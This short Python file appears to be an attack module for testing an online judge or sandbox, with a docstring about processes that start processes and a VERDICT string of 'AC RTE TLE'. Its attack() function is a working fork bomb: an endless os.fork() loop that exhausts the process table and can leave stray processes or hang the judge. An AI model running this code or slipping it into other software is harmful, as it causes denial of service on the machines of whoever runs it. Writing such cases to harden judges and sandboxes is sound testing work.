"""start processes that start processes

Breach: one that is left, or a judge that waits for them.
"""

import os

VERDICT = "AC RTE TLE"


def attack(bait: bytes) -> bytes:
    try:
        while True:
            os.fork()
    except OSError:
        return b""
